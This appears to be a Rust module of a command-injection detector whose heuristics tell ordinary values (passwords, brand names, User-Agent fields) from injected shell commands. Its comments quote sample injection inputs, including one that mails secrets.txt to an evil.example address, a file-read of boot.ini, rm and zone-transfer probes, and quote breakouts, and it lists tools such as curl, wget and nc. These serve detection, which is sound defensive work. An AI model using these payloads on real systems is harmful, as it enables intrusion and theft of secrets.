//! The token a start follows: one data token before a separator (a password, a brand like
//! `S&W`, a User-Agent comment, a header name list), a quote a token closed, and the words
//! glued to a command.
//!
//! Separate because these decide whether a separator inside ordinary data can start a
//! command at all; they read what stands before the start, not the command.

use super::arguments::{BARE_PRINTERS, WRAPPERS};
use super::classify::{classify, CommandWord};
use super::prose::{one_of, title_case, PROSE};
use super::scan::last_sep;
use super::{is_blank, is_sep, vocabulary, MAX_ARGS, MAX_WORD};

/// Whether the value before the separator that opened the start at `at` is one token
/// (`abc` in `abc; id`): a parameter's value, not a sentence.
pub(super) fn one_token_before(v: &[u8], at: usize, plus: bool) -> bool {
    token_before(v, at, plus).is_some()
}

/// The one token before the separator that opened the start at `at` (see
/// [`one_token_before`]), if the value before it is one.
fn token_before(v: &[u8], at: usize, plus: bool) -> Option<&[u8]> {
    let before = &v[..at.min(v.len())];
    let sep = last_sep(before)?;
    let seg = trim_blanks(&before[..sep], plus);
    let one = !seg.is_empty()
        && seg.len() <= 64
        && seg
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'));
    one.then_some(seg)
}

/// `t` without the blanks around it (`+` too in a query string that spells blanks so).
pub(super) fn trim_blanks(t: &[u8], plus: bool) -> &[u8] {
    let from = t
        .iter()
        .position(|&b| !is_blank(b, plus) && !b.is_ascii_whitespace());
    let Some(from) = from else {
        return &[];
    };
    let to = t
        .iter()
        .rposition(|&b| !is_blank(b, plus) && !b.is_ascii_whitespace())
        .unwrap_or(from);
    &t[from..=to]
}

/// `abc; hostname`, `x\nhostname`: a tool name in lower case, alone after a separator that
/// follows one token which is no command itself (`java & python` lists tools; `Node | Go`
/// is a title).
pub(super) fn lone_after_one_token(v: &[u8], at: usize, end: usize, plus: bool) -> bool {
    // a capitalised first word opens a sentence or a list ("Coffee; python")
    let Some(seg) = token_before(v, at, plus) else {
        return false;
    };
    if title_case(v, at, end) || v[0].is_ascii_uppercase() {
        return false;
    }
    let mut lower = [0u8; MAX_WORD];
    let n = seg.len().min(MAX_WORD);
    for (d, s) in lower.iter_mut().zip(seg) {
        *d = s.to_ascii_lowercase();
    }
    classify(&lower[..n]) == CommandWord::Unknown
}

/// Whether exactly one token follows `from` to the end of the value.
pub(super) fn one_token_to_end(v: &[u8], from: usize, plus: bool) -> bool {
    let rest = v.get(from..).unwrap_or_default();
    rest.len() <= 64 && {
        let mut tokens = rest.split(|&b| is_blank(b, plus)).filter(|t| !t.is_empty());
        tokens.next().is_some() && tokens.next().is_none()
    }
}

/// Whether what follows `from` to the value's end is pictographs and symbols only (no ASCII
/// byte but blanks, no letter or digit of any script): `&& more ☕`, `; sort 🙂`. A command
/// given such an operand reads a file no upload names so; a sentence ends that way.
pub(super) fn only_pictographs_to_end(v: &[u8], from: usize, plus: bool) -> bool {
    let rest = v.get(from..).unwrap_or_default();
    if rest.len() > 64 || !rest.iter().any(|&b| b >= 0x80) {
        return false;
    }
    std::str::from_utf8(rest).is_ok_and(|t| {
        t.bytes().all(|b| b >= 0x80 || is_blank(b, plus))
            && t.chars().all(|c| c.is_ascii() || !c.is_alphanumeric())
    })
}

/// `a; rm x y z`, `a; tar cf x.tar a`, `a; reboot now`, `ns1.example.com; dig axfr
/// example.com`, `a & type secrets.txt`, `hello; mail me@evil.example < secrets.txt`: a
/// value of one data token (what a ping, lookup or file form asks for), a spaced separator,
/// then a known command in a shell's lower case with a few plain arguments to the end.
/// Appended to the application's command line, the separator ends it and the shell runs
/// the second command with those arguments. Prose after one word and `;` or `&` goes on
/// with words of a sentence (`salt & pepper`, `Tom & Jerry`, `a; b; c`, `rock & roll`)
/// whose first is no command; a capitalised value opens a sentence. A command that is an
/// English word too (`type`, `mail`, `dig`) needs an operand no sentence writes: a file
/// or host name with a dot, or a redirection from or to one.
pub(super) fn command_after_one_token(
    v: &[u8],
    at: usize,
    end: usize,
    word: &[u8],
    plus: bool,
) -> bool {
    let Some(seg) = token_before(v, at, plus) else {
        return false;
    };
    if v.first().is_some_and(u8::is_ascii_uppercase)
        || v[at..end].iter().any(u8::is_ascii_uppercase)
        || !matches!(
            v[..at].iter().rev().find(|&&b| !is_blank(b, plus)),
            Some(b';' | b'&' | b'|')
        )
    {
        return false;
    }
    // `java & python` lists tools: the token before is no command.
    let mut lower = [0u8; MAX_WORD];
    let n = seg.len().min(MAX_WORD);
    for (d, s) in lower.iter_mut().zip(seg) {
        *d = s.to_ascii_lowercase();
    }
    // A precommand (`time`, `eval`, `nohup`) hands its operand to a command judged as
    // such (see [`precommand_operand`]); `x; time flies` is a pun.
    if classify(&lower[..n]) != CommandWord::Unknown || WRAPPERS.contains(&word) || word == b"eval"
    {
        return false;
    }
    let rest = &v[end.min(v.len())..];
    if rest.len() > 160 {
        return false;
    }
    let dotted = |t: &[u8]| {
        t.iter().rposition(|&b| b == b'.').is_some_and(|d| {
            d > 0
                && d + 1 < t.len()
                && t[d + 1..].iter().all(u8::is_ascii_alphanumeric)
                && t[d + 1..].iter().any(u8::is_ascii_alphabetic)
        })
    };
    let mut count = 0;
    let mut operand = false;
    let mut pending_redirect = false;
    for t in rest.split(|&b| is_blank(b, plus)).filter(|t| !t.is_empty()) {
        count += 1;
        if count > 6 {
            return false;
        }
        let stripped = t
            .strip_prefix(b">>")
            .or_else(|| t.strip_prefix(b">"))
            .or_else(|| t.strip_prefix(b"<"));
        let (redirect, t) = match stripped {
            Some(r) => (true, r),
            None => (false, t),
        };
        if t.is_empty() {
            pending_redirect |= redirect;
            continue;
        }
        if !t.iter().all(|&b| {
            b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'@' | b'/' | b':' | b'=')
        }) || (one_of(PROSE, t) && t.len() > 1)
        {
            return false;
        }
        operand |= dotted(t) || ((redirect || pending_redirect) && t[0].is_ascii_alphanumeric());
        pending_redirect = false;
    }
    count > 0 && (operand || !vocabulary::is_english(word))
}

/// Whether one to three plain words (letters and digits) end the value after `from`.
pub(super) fn few_plain_words_to_end(v: &[u8], from: usize, plus: bool) -> bool {
    let rest = v.get(from..).unwrap_or_default();
    let rest = rest.strip_suffix(b"\n").unwrap_or(rest);
    let mut words = 0;
    for t in rest.split(|&b| is_blank(b, plus)).filter(|t| !t.is_empty()) {
        if !t.iter().all(u8::is_ascii_alphanumeric) || words == 3 {
            return false;
        }
        words += 1;
    }
    words > 0
}

/// `P4ss|word&more`, `Blue|sky&less`: in a value of one unbroken token (a password, a
/// tag) joined by more than one lone `&` or `|` between letters or digits, an English word
/// with no argument after it is a piece of that token. Appended to a command it would run
/// a pager or filter on nothing; one glued separator (`a|true`) stays the classic probe,
/// and commands that print when run bare (`x&date`) count anyway.
pub(super) fn glued_word_piece(v: &[u8], at: usize, end: usize, word: &[u8]) -> bool {
    let sep = at.wrapping_sub(1);
    let glued_sep = |i: usize| {
        matches!(v.get(i), Some(b'&' | b'|'))
            && i > 0
            && v[i - 1].is_ascii_alphanumeric()
            && v.get(i + 1).is_some_and(u8::is_ascii_alphabetic)
    };
    glued_sep(sep)
        && vocabulary::is_english(word)
        && !BARE_PRINTERS.contains(&word)
        && v.len() <= 128
        && !v.iter().any(|&b| b.is_ascii_whitespace() || b == b'+')
        && (end == v.len() || glued_sep(end))
        && (0..v.len()).filter(|&i| glued_sep(i)).take(2).count() == 2
}

/// `MILES&MORE 992000123456789`, `S&W`: `&` glued between two words in capitals is a
/// brand's or programme's name (`AT&T`, `P&O`), and an everyday word or an initial after it
/// that a shell would also run (`MORE`, `SORT`, `W`) is the name's second half. A command line an
/// attacker writes in capitals still needs operands a shell reads (`&TYPE C:\boot.ini`):
/// the caller asks for none.
pub(super) fn brand_ampersand(v: &[u8], at: usize, end: usize, word: &[u8]) -> bool {
    let Some(sep) = at.checked_sub(1) else {
        return false;
    };
    if v.get(sep) != Some(&b'&') || end > v.len() {
        return false;
    }
    let after = &v[at..end];
    let head = &v[..sep];
    let caps = head
        .iter()
        .rev()
        .take_while(|b| b.is_ascii_uppercase())
        .count();
    // The word before is a whole word of capitals, not the end of a token (`x1A&MORE`).
    let whole = caps == head.len() || head[head.len() - caps - 1].is_ascii_whitespace();
    // A one-letter half (`S&W`, `A&W`) is an initial, whatever program shares its letter.
    (caps >= 1
        && whole
        && !after.is_empty()
        && after.iter().all(u8::is_ascii_uppercase)
        && (vocabulary::is_english(word) || after.len() == 1))
        || glued_ampersand_word(v, sep, end, word)
}

/// `50%off&more`, `deals&less`: in any case, a word glued to `&` and an everyday word
/// that reads standard input glued after it that ends the value is a password's or a name's shape. An
/// injection still needs the command to do something: operands after it (the caller sees
/// `end` short of the value's end) or a command that is not an everyday word (`x&whoami`).
/// The token before holds a letter and none of an address's or a path's bytes, so
/// `127.0.0.1&more` and `/a&more` stay as they were.
pub(super) fn glued_ampersand_word(v: &[u8], sep: usize, end: usize, word: &[u8]) -> bool {
    let head = &v[..sep];
    let token = head
        .iter()
        .rev()
        .take_while(|b| !b.is_ascii_whitespace() && !is_sep(**b))
        .count();
    let token = &head[head.len() - token..];
    end == v.len()
        && end > sep + 1
        && v[sep + 1..end].iter().all(u8::is_ascii_alphabetic)
        && token.last().is_some_and(u8::is_ascii_alphanumeric)
        && token.iter().any(u8::is_ascii_alphabetic)
        && !token.iter().any(|b| {
            matches!(
                b,
                b'.' | b'/' | b'\\' | b':' | b'=' | b'$' | b'`' | b'\'' | b'"'
            )
        })
        && vocabulary::is_english(word)
        // Only a program that reads standard input: with none (a request's) it does nothing
        // a tester sees; `x&date` prints and stays flagged.
        && matches!(word, b"more" | b"less" | b"sort" | b"head" | b"tail" | b"tee" | b"rev")
}

/// `x'; date #`, `x" | groups; "`, `x'\nlast '`: the start follows a token that closed the
/// application's quoted string (it ends in an unpaired quote), and the rest of the command's
/// line comments out what the application appends (`#`) or reopens a string with the same
/// quote, so the line the application builds stays balanced. That is how a breakout is
/// written for a shell; quotes in prose pair up inside the token or sit inside a word.
pub(super) fn quote_breakout(v: &[u8], at: usize, end: usize, plus: bool) -> bool {
    let before = &v[..at.min(v.len())];
    let Some(sep) = opening_separator(before, at) else {
        return false;
    };
    let Some(t) = before[..sep].iter().rposition(|&b| !is_blank(b, plus)) else {
        return false;
    };
    let q = before[t];
    if !matches!(q, b'\'' | b'"') {
        return false;
    }
    let from = before[..t]
        .iter()
        .rposition(|&b| is_blank(b, plus) || is_sep(b))
        .map_or(0, |p| p + 1);
    if before[from..=t].iter().filter(|&&b| b == q).count() % 2 == 0 {
        return false;
    }
    let rest = &v[end.min(v.len())..v.len().min(end + MAX_ARGS)];
    let line = &rest[..rest
        .iter()
        .position(|&b| b == b'\n' || b == b'\r')
        .unwrap_or(rest.len())];
    let comment = line
        .iter()
        .enumerate()
        .any(|(i, &b)| b == b'#' && (i == 0 || is_blank(line[i - 1], plus) || is_sep(line[i - 1])));
    comment || line.iter().filter(|&&b| b == q).count() % 2 == 1
}

/// Where the separator that opened the start at `at` begins in `before` (the value up to
/// `at`): its first byte, for `&&`, `||` and `\r\n` too.
pub(super) fn opening_separator(before: &[u8], at: usize) -> Option<usize> {
    let mut sep = last_sep(before)?;
    while sep > 0 && is_sep(before[sep - 1]) && at - sep < 3 {
        sep -= 1;
    }
    Some(sep)
}

/// Whether `prefix` (the value before a command start) holds only line breaks and blanks,
/// line breaks possibly spelled as escapes (`\\n`, for applications that unescape them): the
/// value was written to end the line the application built.
pub(super) fn opens_with_line_break(prefix: &[u8]) -> bool {
    let mut i = 0;
    while i < prefix.len() {
        match prefix[i] {
            b'\\' if matches!(prefix.get(i + 1), Some(b'n' | b'r')) => i += 2,
            b if b.is_ascii_whitespace() => i += 1,
            _ => return false,
        }
    }
    true
}

/// Bytes of a User-Agent comment scanned each way by [`product_comment_field`].
const COMMENT_SPAN: usize = 256;

/// Whether the start at `at`, right after a `;`, is a field of the parenthesised comment
/// of a product token (`Mozilla/5.0 (X11; Linux x86_64)`, `Dalvik/2.1.0 (Linux; U;
/// Android 10; K)`): User-Agent, Server and Via headers list platform, language tag (`id`,
/// `tr`, `nl`, `vi`) and device there, separated by `;`. A shell reads the `(` after the
/// product word as a syntax error and runs nothing of that line, and a header parser reads
/// the fields as data. Only plain tokens qualify, the whole comment closed by `)`: any
/// quote, expansion, backtick, pipe, `&` or redirection inside it, or a `;` after the
/// closing `)` (`Mozilla/5.0 (X11; Linux) ; id`), is judged as shell text.
pub(super) fn product_comment_field(v: &[u8], at: usize, plus: bool) -> bool {
    if at == 0 || v.get(at - 1) != Some(&b';') || !in_product_comment(v, at - 1, plus) {
        return false;
    }
    // On to the closing `)` over field bytes only.
    let rest = &v[at..v.len().min(at + COMMENT_SPAN)];
    rest.iter()
        .position(|&b| !comment_field_byte(b, plus))
        .is_some_and(|q| rest[q] == b')')
}

/// `PHP 8.3.13`, `cURL 7.88.1` in `Composer/2.8.2 (Linux; PHP 8.3.13; cURL 7.88.1)`: a
/// product comment's field that names a runtime and its version. The word after the name,
/// at `end`, is a dotted version of two or three numbers (an IPv4 address has four: `(X11;
/// ping 10.0.0.1)` stays a command) and ends the field. A name whose number is a duration or
/// an address shorthand (`sleep 5.5`, `ping 1.2`) is no product.
pub(super) fn versioned_comment_field(v: &[u8], end: usize, word: &[u8], plus: bool) -> bool {
    if matches!(
        word,
        b"sleep" | b"usleep" | b"timeout" | b"ping" | b"ping6" | b"nc" | b"ncat"
    ) {
        return false;
    }
    let rest = &v[end.min(v.len())..];
    let blanks = rest.iter().take_while(|&&b| is_blank(b, plus)).count();
    if blanks == 0 {
        return false;
    }
    let rest = &rest[blanks..];
    let n = rest
        .iter()
        .take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_'))
        .count();
    let after = rest[n..].iter().find(|&&b| !is_blank(b, plus));
    dotted_version(&rest[..n], 3) && matches!(after, Some(b';' | b')'))
}

/// `6.11.0`, `8.3.13`, `7.88.1-DEV`: digits, then one to `max_dots` groups of `.digits`,
/// then at most a tag of letters, digits and `-` / `_` / `.` after the last group.
fn dotted_version(t: &[u8], max_dots: usize) -> bool {
    let mut dots = 0;
    let mut i = 0;
    loop {
        let d = t[i..].iter().take_while(|b| b.is_ascii_digit()).count();
        if d == 0 {
            return false;
        }
        i += d;
        if t.get(i) == Some(&b'.') && t.get(i + 1).is_some_and(u8::is_ascii_digit) {
            dots += 1;
            i += 1;
            continue;
        }
        break;
    }
    (1..=max_dots).contains(&dots)
        && t[i..]
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
}

/// `SendGrid/6.11.0;java`, `okhttp/4.12.0;android`: a `;` glued after a `Name/1.2` product
/// token of a User-Agent lists the client's platform or language next, with no comment
/// parentheses. The start at `at` follows that `;` (the version has a dot: `report/2024;id`
/// is no product token).
pub(super) fn product_list_field(v: &[u8], at: usize) -> bool {
    if at == 0 || v.get(at - 1) != Some(&b';') {
        return false;
    }
    let product = product_token_before(v, at - 1);
    let Some(slash) = product.iter().rposition(|&b| b == b'/') else {
        return false;
    };
    product.first().is_some_and(u8::is_ascii_alphabetic) && dotted_version(&product[slash + 1..], 3)
}

/// The run of product-token bytes (no `:` or `,`) that ends at `p`, at most 64 bytes back:
/// `Mozilla/5.0` before ` (X11; …`, `SendGrid/6.11.0` before `;java`.
fn product_token_before(v: &[u8], p: usize) -> &[u8] {
    let window = p.saturating_sub(64);
    let from = v[window..p]
        .iter()
        .rposition(|&b| !product_token_byte(b) || b == b':' || b == b',')
        .map_or(window, |q| window + q + 1);
    &v[from..p]
}

/// A byte of a product token (`Opera/9.80`) or of a comment field (`Opera Mini/4.2`).
fn product_token_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'/' | b':' | b',')
}

/// A byte of a product comment's fields and their `;` separators.
fn comment_field_byte(b: u8, plus: bool) -> bool {
    product_token_byte(b) || b == b';' || b == b'+' || is_blank(b, plus)
}

/// Whether the bytes before `pos` are, back to an unclosed `(`, plain comment fields, and
/// that `(` follows a `Name/version` product token (with one blank at most between).
pub(super) fn in_product_comment(v: &[u8], pos: usize, plus: bool) -> bool {
    let pos = pos.min(v.len());
    let from = pos.saturating_sub(COMMENT_SPAN);
    let Some(open) = v[from..pos]
        .iter()
        .rposition(|&b| !comment_field_byte(b, plus))
        .map(|p| from + p)
    else {
        return false;
    };
    if v[open] != b'(' {
        return false;
    }
    let mut p = open;
    if p > 0 && is_blank(v[p - 1], plus) {
        p -= 1;
    }
    let product = product_token_before(v, p);
    product.first().is_some_and(u8::is_ascii_alphabetic)
        && product
            .windows(2)
            .any(|w| w[0] == b'/' && w[1].is_ascii_digit())
}

/// Whether the word before the separator that precedes `at` is a capitalised name
/// (`Wireshark` in `Wireshark & Nmap`).
pub(super) fn capitalised_item_before(v: &[u8], at: usize) -> bool {
    let before = v[..at.min(v.len())].trim_ascii_end();
    let sep = before
        .iter()
        .rev()
        .take_while(|&&b| matches!(b, b'|' | b'&' | b';'))
        .count();
    let before = before[..before.len() - sep].trim_ascii_end();
    let word = before
        .iter()
        .rev()
        .take_while(|b| b.is_ascii_alphanumeric())
        .count();
    let name = &before[before.len() - word..];
    name.len() >= 2 && name[0].is_ascii_uppercase()
}

/// `SignedHeaders=content-type;host;x-amz-date`: a command that needs an operand to do
/// anything (`host`, `ping`, `cat`), glued between two `;` inside a run of names with no
/// blank, is an item of a `;`-joined list (AWS Signature V4's signed headers, a cookie's
/// attributes), and would run with no operand and do nothing. Bare probes (`a;id;b`) are
/// not in the list and stay commands.
pub(super) fn operand_command_in_name_list(v: &[u8], at: usize, end: usize, word: &[u8]) -> bool {
    const NEEDS_OPERAND: &[&[u8]] = &[
        b"host",
        b"ping",
        b"ping6",
        b"nslookup",
        b"dig",
        b"traceroute",
        b"tracert",
        b"whois",
        b"cat",
        b"head",
        b"tail",
        b"more",
        b"less",
        b"type",
        b"grep",
        b"touch",
        b"sleep",
        b"kill",
        b"curl",
        b"wget",
        b"file",
        b"stat",
        b"find",
        b"sort",
        b"cut",
        b"diff",
    ];
    let name = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_');
    at >= 2
        && v[at - 1] == b';'
        && name(&v[at - 2])
        && v.get(end) == Some(&b';')
        && v.get(end + 1).is_some_and(name)
        && NEEDS_OPERAND.contains(&word)
}
